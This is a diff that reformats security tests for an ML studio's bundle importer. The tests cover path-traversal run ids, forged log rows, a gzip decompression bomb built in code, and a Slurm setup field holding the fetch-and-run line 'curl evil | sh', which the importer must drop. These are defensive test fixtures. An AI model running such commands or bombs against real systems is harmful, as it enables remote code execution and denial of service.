@@ -34,7 +34,10 @@ function writeBundle(l: Library, bytes: Buffer, name = 'in.dsbundle'): string {
 async function refused(l: Library, file: string): Promise<StudioFailure> {
   const e = await Promise.resolve()
     .then(() => l.exports.importBundle(file))
-    .then(() => null, (err: unknown) => err);
+    .then(
+      () => null,
+      (err: unknown) => err,
+    );
   expect(e).toBeInstanceOf(StudioFailure);
   expect((e as Error).message).not.toMatch(/\n|SQLite|constraint|ENOENT|EISDIR/i);
   return e as StudioFailure;
@@ -64,7 +67,18 @@ describe('ids that would name folders outside the data folder', () => {
   it('deleting an old row whose id escapes removes the row and no folder', () => {
     const l = setup();
     const config = RunConfigSchema.parse({ datasetId: DATASET.id, model: 'cnn', kind: 'teacher' });
-    for (const id of ['..', '../../canary']) insertRun(l.db, { id, name: id, kind: 'teacher', status: 'completed', config, datasetId: DATASET.id, teacherRunId: null, seed: 1, createdAt: '2026-01-01T00:00:00.000Z' });
+    for (const id of ['..', '../../canary'])
+      insertRun(l.db, {
+        id,
+        name: id,
+        kind: 'teacher',
+        status: 'completed',
+        config,
+        datasetId: DATASET.id,
+        teacherRunId: null,
+        seed: 1,
+        createdAt: '2026-01-01T00:00:00.000Z',
+      });
     const before = snapshot(l.root);
     expect(l.history.delete(['..', '../../canary'])).toEqual({ deleted: 2 });
     expect(diffBytes(before, snapshot(l.root)).entries).toEqual([]);
@@ -99,7 +113,13 @@ describe('all or nothing', () => {
 
   it('drops a Slurm executor and profile: a resumed imported run never runs the exporter’s shell', async () => {
     const l = setup();
-    const config = RunConfigSchema.parse({ datasetId: DATASET.id, model: 'cnn', kind: 'teacher', executor: 'slurm', slurm: { setup: 'curl evil | sh', workerCommand: 'sh -c x' } });
+    const config = RunConfigSchema.parse({
+      datasetId: DATASET.id,
+      model: 'cnn',
+      kind: 'teacher',
+      executor: 'slurm',
+      slurm: { setup: 'curl evil | sh', workerCommand: 'sh -c x' },
+    });
     const run = runRecord({ status: 'interrupted', config });
     await l.exports.importBundle(writeBundle(l, bundleOf(validMembers(run))));
     const stored = getRun(l.db, run.id as string)!.config;
@@ -125,7 +145,10 @@ describe('all or nothing', () => {
         throw Object.assign(new Error('cross-device link'), { code: 'EXDEV' });
       },
     });
-    const e = await importer.importBundle(writeBundle(l, bundleOf(validMembers()))).then(() => null, (err: unknown) => err);
+    const e = await importer.importBundle(writeBundle(l, bundleOf(validMembers()))).then(
+      () => null,
+      (err: unknown) => err,
+    );
     expect(e).toBeInstanceOf(StudioFailure);
     expect((e as Error).message).toMatch(/could not move the imported files into place \(EXDEV\); nothing was imported/);
     expect(rowCounts(l.db)).toEqual({ runs: 1, metrics: 1, logs: 1 });
@@ -138,7 +161,15 @@ describe('rows aimed at other runs', () => {
     const l = setup();
     const run = runRecord();
     const members = validMembers(run).map((m) =>
-      m.name === 'logs.json' ? { name: m.name, data: JSON.stringify([{ runId: l.existingId, level: 'error', message: 'forged', time: 't' }, { runId: 'no-such-run', level: 'info', message: 'x', time: 't' }]) } : m,
+      m.name === 'logs.json'
+        ? {
+            name: m.name,
+            data: JSON.stringify([
+              { runId: l.existingId, level: 'error', message: 'forged', time: 't' },
+              { runId: 'no-such-run', level: 'info', message: 'x', time: 't' },
+            ]),
+          }
+        : m,
     );
     await l.exports.importBundle(writeBundle(l, bundleOf(members)));
     expect(listRunLogs(l.db, l.existingId, 100).map((r) => r.message)).toEqual(['original line']);
@@ -168,7 +199,17 @@ describe('decompression bombs', () => {
     const l = setup();
     // Multi-member gzip: a valid prefix claiming a 900 MiB weights file, then 64 MiB blocks of zeros.
     const claimed = 900 * 1024 * 1024;
-    const prefix = gzipSync(rawBundle({ files: [{ name: 'run.json', size: 2 }, { name: 'model/weights.bin', size: claimed }] }, [Buffer.from('{}')]));
+    const prefix = gzipSync(
+      rawBundle(
+        {
+          files: [
+            { name: 'run.json', size: 2 },
+            { name: 'model/weights.bin', size: claimed },
+          ],
+        },
+        [Buffer.from('{}')],
+      ),
+    );
     const zeros = gzipSync(Buffer.alloc(64 * 1024 * 1024), { level: constants.Z_BEST_COMPRESSION });
     const bomb = Buffer.concat([prefix, ...Array.from({ length: 20 }, () => zeros)]);
     expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
@@ -190,7 +231,9 @@ describe('decompression bombs', () => {
     clearInterval(timer);
     lag = Math.max(lag, Date.now() - last - 5);
     peak = Math.max(peak, process.memoryUsage().rss);
-    console.log(`bundle bomb: ${bomb.length} bytes compressed (would inflate to ${1280} MiB): refused in ${ms} ms, RSS +${Math.round((peak - rss0) / 1048576)} MB, longest event-loop stall ${lag} ms`);
+    console.log(
+      `bundle bomb: ${bomb.length} bytes compressed (would inflate to ${1280} MiB): refused in ${ms} ms, RSS +${Math.round((peak - rss0) / 1048576)} MB, longest event-loop stall ${lag} ms`,
+    );
     expect(e.message).toMatch(/inflates beyond 200 times its compressed size: refused/);
     expect(ms).toBeLessThan(5000);
     expect(peak - rss0).toBeLessThan(200 * 1024 * 1024);
